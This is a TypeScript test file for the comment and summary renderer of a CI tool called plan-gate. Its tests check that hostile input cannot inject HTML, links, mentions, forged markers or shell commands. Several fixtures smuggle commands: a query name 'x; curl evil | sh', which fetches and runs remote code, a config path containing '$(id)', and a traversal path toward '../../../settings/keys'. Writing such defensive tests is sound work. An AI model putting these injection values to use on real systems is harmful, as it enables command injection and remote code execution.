import fc from "fast-check";
import { checkText } from "../../src/reports/check-text.js";
import { renderComment } from "../../src/reports/comment.js";
import { commentId, commentMarker, markerLine, readMarker } from "../../src/reports/comment-marker.js";
import { commentBudget } from "../../src/reports/markdown-budget.js";
import { renderStepSummary } from "../../src/reports/step-summary.js";
import type { Telling } from "../../src/reports/telling.js";
import { hostileText } from "../support/hostile-verdict.js";
import { lostIndex, outcome, verdict } from "../support/verdicts.js";
import { markdownToHtml } from "./support/browser-page.js";
import { hostileTelling } from "./support/hostile-telling.js";
import { conclusion, evaluation, matrix, telling, tellings } from "./support/tellings.js";

/** Every text that a telling becomes. */
function textsOf(told: Telling): readonly string[] {
  const { body, smallerBody } = renderComment(told);
  return [body, smallerBody, renderStepSummary(told), checkText(told).summary];
}

const ourTag =
  /^<(?:\/?(?:p|h[345]|ul|ol|li|code|pre|strong|em|sub|details|summary|table|thead|tbody|tr|hr|td|th)|(?:td|th) align="right"|ol start="1"|\/a|a href="https:\/\/github\.com\/acme\/shop\/[\w./%#-]*")(?: \/)?>$/;

/** What a reader's eyes meet outside of code, entities decoded: where GitHub looks for mentions, issues and commits. */
function wordsOutsideCode(html: string): string {
  const named: Readonly<Record<string, string>> = { lt: "<", gt: ">", amp: "&", quot: '"' };
  return html
    .replace(/<!-- .*? -->/, "")
    .replace(/<pre>.*?<\/pre>|<code>.*?<\/code>/gs, "\u0001")
    .replace(/<[^>]*>/g, "\u0001")
    .replace(/&#(\d+);/g, (_, number: string) => String.fromCodePoint(Number(number)))
    .replace(/&(\w+);/g, (_, name: string) => named[name] ?? "");
}

test("no text from outside notifies anybody, refers to an issue or commit, or becomes a link or HTML", () => {
  fc.assert(
    fc.property(hostileTelling, (told) => {
      for (const text of textsOf(told)) {
        const html = markdownToHtml(text);
        const tags = html.replace(/^<!-- .*? -->/, "").match(/<[^>]*>/g) ?? [];
        expect(tags.filter((tag) => !ourTag.test(tag))).toEqual([]);
        expect(wordsOutsideCode(html)).not.toMatch(
          /@\w|#\d|\bGH-\d|:\/\/|www\.|\$\S|:\w+:|<|\b(?=[a-f]*\d)[0-9a-f]{7,40}\b/i,
        );
      }
    }),
    { numRuns: 80 },
  );
});

test("every tag that is opened is closed in order, and no fence is left open", () => {
  fc.assert(
    fc.property(hostileTelling, (told) => {
      for (const text of textsOf(told)) {
        const open: string[] = [];
        const html = markdownToHtml(text);
        for (const [, slash, name = "", empty] of html.matchAll(/<(\/?)(\w+)[^>]*?( \/)?>/g)) {
          if (empty || name === "hr" || name === "br") continue;
          if (slash) expect(open.pop()).toBe(name);
          else open.push(name);
        }
        expect(open).toEqual([]);
        expect(text.trimEnd().split("\n").at(-1)).toMatch(/^<sub>.*<\/sub>$/);
        expect(html.trimEnd()).toMatch(/<\/sub><\/p>$/);
      }
    }),
    { numRuns: 80 },
  );
});

test("no invisible character gets into a text", () => {
  fc.assert(
    fc.property(hostileTelling, (told) => {
      const { title } = checkText(told);
      for (const text of [...textsOf(told).map((each) => each.replaceAll("\n", "")), title]) {
        expect(text.replaceAll("⚠️", "")).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u);
      }
    }),
    { numRuns: 60 },
  );
});

test("every text is within its budget, whatever was said", () => {
  fc.assert(
    fc.property(hostileTelling, (told) => {
      const { body, smallerBody } = renderComment(told);
      for (const text of [body, smallerBody, checkText(told).summary]) {
        expect(text.length).toBeLessThanOrEqual(commentBudget.utf16Units);
        expect(Buffer.byteLength(text)).toBeLessThanOrEqual(commentBudget.bytes);
      }
      expect(checkText(told).title.length).toBeLessThanOrEqual(255);
      expect(Buffer.byteLength(renderStepSummary(told))).toBeLessThanOrEqual(900_000);
    }),
    { numRuns: 60 },
  );
});

test("the first line of a comment is its marker, and reads back as what was put in", () => {
  fc.assert(
    fc.property(hostileTelling, (told) => {
      const { marker, body, smallerBody } = renderComment(told);
      for (const text of [body, smallerBody]) {
        const [first = ""] = text.split("\n");
        expect(first.startsWith(marker)).toBe(true);
        expect(first.slice(4, -3)).not.toMatch(/--|[<>]/);
        expect(readMarker(text)).toEqual({
          id: commentId(told.conclusion),
          head: told.commits.head,
          run: told.run.id,
          attempt: told.run.attempt,
          digest: told.conclusion.digest,
          record: told.record,
        });
      }
    }),
    { numRuns: 60 },
  );
});

test("settings files' comments are told apart, even where one's name begins as another's", () => {
  const idOf = (config: string) => commentId({ evaluations: [evaluation(verdict([]), { config })] });
  expect(
    markerLine(idOf("a.yml2"), { head: "ab".repeat(20), run: 1, attempt: 1, digest: "0", record: null }),
  ).not.toContain(commentMarker(idOf("a.yml")));
  fc.assert(
    fc.property(hostileText, hostileText, (one, two) => {
      fc.pre(one.toWellFormed() !== two.toWellFormed());
      expect(commentMarker(idOf(one)).startsWith(commentMarker(idOf(two)))).toBe(false);
    }),
  );
});

describe("a marker that somebody else wrote", () => {
  const line = markerLine("plan-gate.yml", { head: "ab".repeat(20), run: 7, attempt: 1, digest: "0f", record: null });
  const forged: Readonly<Record<string, string>> = {
    "below another line": `hello\n${line}`,
    "with text behind it": `${line} and more`,
    "with a head that is no commit": line.replace("ab".repeat(20), "main"),
    "with more keys": line.replace("{", '{"approved":true,'),
    "with broken JSON": line.replace('"run":7', '"run":'),
    "with a negative run": line.replace('"run":7', '"run":-7'),
  };
  for (const [what, body] of Object.entries(forged)) {
    test(`${what} is none`, () => expect(readMarker(body)).toBeUndefined());
  }
  test("as GitHub's editor leaves it, with CRLF, is read", () => expect(readMarker(`${line}\r\nhello`)?.run).toBe(7));
});

describe("however much there is to say", () => {
  const many = (number: number) => Array.from({ length: number }, (_, index) => lostIndex({ name: `report-${index}` }));
  const long = "column_with_a_long_name ".repeat(400);
  const waiting = many(500).map(({ name }) => ({
    kind: "removal" as const,
    query: name,
    files: [{ path: long, blob: null }],
    counts: "once approved" as const,
    what: long,
    next: long,
  }));
  const quiet = verdict([outcome("passed", "q")]);
  const crowds: Readonly<Record<string, Telling>> = {
    "3,000 findings": telling(conclusion("worse", [evaluation(verdict(many(3_000)))])),
    "2,000 wide names": telling(
      conclusion("worse", [
        evaluation(verdict(many(2_000).map((told) => ({ ...told, name: "表".repeat(80) + told.name })))),
      ]),
    ),
    "500 long proposals": telling(
      conclusion("environment changed", [evaluation(quiet, { proposals: waiting })], {
        waiting,
        refused: waiting,
        approved: waiting.map((proposal, index) => ({ proposal, by: `user-${index}` })),
      }),
    ),
    "300 settings files": telling(
      conclusion(
        "worse",
        many(300).map(({ name }) =>
          evaluation(verdict([lostIndex({ name })]), { config: `${"folder/".repeat(30)}${name}.yml` }),
        ),
      ),
    ),
    "long names everywhere": telling(
      conclusion(
        "worse",
        [evaluation(verdict([lostIndex({ name: long, case: long, owner: long })]), { config: long })],
        {
          label: { kind: "void", by: long, reason: long },
        },
      ),
      { patch: long, version: long },
    ),
  };

  for (const [crowd, told] of Object.entries(crowds)) {
    test(`${crowd} fit into a comment, a check run and a summary`, () => {
      const { body, smallerBody } = renderComment(told);
      for (const text of [body, smallerBody, checkText(told).summary]) {
        expect(text.length).toBeLessThanOrEqual(commentBudget.utf16Units);
        expect(Buffer.byteLength(text)).toBeLessThanOrEqual(commentBudget.bytes);
        expect(text.match(/<details>/g)?.length ?? 0).toBe(text.match(/<\/details>/g)?.length ?? 0);
      }
      const summary = renderStepSummary(told);
      expect(Buffer.byteLength(summary)).toBeLessThanOrEqual(900_000);
      expect(summary.length).toBeGreaterThan(body.length / 2);
    });
  }

  test("what is left out is counted, and where there is more is said", () => {
    const { body } = renderComment(crowds["3,000 findings"] as Telling);
    expect(body).toMatch(/Left out, to fit: the plans of [\d,]+ queries, .*\. The summary of \[the run\]\(https:/);
  });
});

test("the smaller body is smaller, and still says the verdict", () => {
  for (const told of Object.values(tellings)) {
    const { body, smallerBody } = renderComment(told);
    expect(smallerBody.length).toBeLessThanOrEqual(body.length);
    expect(smallerBody.split("\n").slice(0, 4)).toEqual(body.split("\n").slice(0, 4));
  }
});

test("no table is wider than four columns, and every row has as many cells as its head", () => {
  for (const told of [...Object.values(tellings), matrix]) {
    const html = markdownToHtml(renderComment(told).body);
    for (const [table] of html.matchAll(/<table>.*?<\/table>/gs)) {
      const cells = [...table.matchAll(/<tr>.*?<\/tr>/gs)].map(([row]) => row.match(/<t[hd]/g)?.length);
      expect(Math.max(...cells.map(Number))).toBeLessThanOrEqual(4);
      expect(new Set(cells).size).toBe(1);
    }
  }
});

test("a line is linked at the head's commit, its path percent-encoded, below the settings file's folder", () => {
  const cause = { kind: "migration" as const, file: "migrations/0 1#?(x).sql", line: 3, statement: "DROP INDEX i;" };
  const told = lostIndex({ findings: lostIndex().findings.map((each) => ({ ...each, cause })) });
  const { body } = renderComment(
    telling(conclusion("worse", [evaluation(verdict([told]), { config: "db/plan-gate.yml" })])),
  );
  expect(markdownToHtml(body)).toContain(
    'href="https://github.com/acme/shop/blob/3f5d1c09a7b24e86f0d3c1b2a4958677e0f1d2c3/db/migrations/0%201%23%3F%28x%29.sql#L3"',
  );
});

test("a path that leads out of the repository is shown and not linked", () => {
  const cause = { kind: "migration" as const, file: "../../../settings/keys", line: 3, statement: "DROP INDEX i;" };
  const told = lostIndex({ findings: lostIndex().findings.map((each) => ({ ...each, cause })) });
  const { body } = renderComment(telling(conclusion("worse", [evaluation(verdict([told]))])));
  expect(body).toContain("`../../../settings/keys:3`");
  expect(body).not.toContain("settings/keys#L3");
});

describe("how to accept", () => {
  const worse = verdict([lostIndex()]);
  const bodyOf = (approval: object, more: Partial<Telling> = {}) => {
    const base = evaluation(worse);
    return renderComment(telling(conclusion("worse", [{ ...base, approval: { ...base.approval, ...approval } }]), more))
      .body;
  };

  test("by the author: accept, commit, and the label", () => {
    expect(bodyOf({})).toMatch(
      /1\. Run `npx plan-gate@0\.1\.0 accept recent-orders-of-tenant`.*\n2\. Somebody with write access puts the label `plan-gate:approve` on/,
    );
  });
  test("by a bot: the label alone, and that workflows wait for a click", () => {
    const body = bodyOf({ baselines: "bot" });
    expect(body).not.toContain("plan-gate@0.1.0 accept");
    expect(body).toContain("GitHub then waits for a click");
    expect(bodyOf({ baselines: "bot" }, { botCommits: "never" })).toContain("no workflow starts on that commit");
    expect(bodyOf({ baselines: "bot" }, { botCommits: "run" })).not.toContain("waits for a click");
  });
  test("by a bot, in a fork that it cannot push to: by the author", () => {
    expect(bodyOf({ baselines: "bot" }, { fromFork: true })).toContain("plan-gate@0.1.0 accept");
  });
  test("by code owners, by nobody, by the listed ones who are not the author", () => {
    expect(bodyOf({ mode: "codeowners" })).toContain("A code owner of these files approves");
    expect(bodyOf({ mode: "off" })).toContain("nothing can be approved in a pull request here");
    expect(bodyOf({ approvers: ["anna", "acme/dba"], authorMayApprove: false })).toContain(
      "One of `anna`, `acme/dba`, who is not the author, puts the label",
    );
  });
  test("a query's name that a shell would take for more than a name is in no command", () => {
    const told = verdict([lostIndex({ name: "x; curl evil | sh" })]);
    const { body } = renderComment(telling(conclusion("worse", [evaluation(told, { config: "a b/$(id).yml" })])));
    expect(body).toContain("`npx plan-gate@0.1.0 accept --config 'a b/$(id).yml'`");
  });
  test("what no longer plans cannot be accepted, and nothing says that it can", () => {
    const broken = outcome("broken", "gone", { findings: lostIndex().findings });
    expect(renderComment(telling(conclusion("worse", [evaluation(verdict([broken]))]))).body).not.toContain(
      "If this is intended",
    );
  });
});

test("a pull request that adopts plan-gate is shown what will be watched", () => {
  const outcomes = [outcome("unbaselined", "orders"), outcome("unbaselined", "users", { case: "a" })];
  const { body } = renderComment(telling(conclusion("set-up", [evaluation(verdict(outcomes), { kind: "set-up" })])));
  expect(body).toContain("**2 queries will be watched:**\n\n- `orders`\n- `users`\n");
  expect(body).not.toContain("If this is intended");
});

test("where the base does not enforce, the comment says that it would block", () => {
  const told = { ...conclusion("worse", [evaluation(verdict([lostIndex()]))]), exitCode: 0 as const, enforced: false };
  expect(renderComment(telling(told)).body).toContain("**Would block merging if it were enforced.**");
});
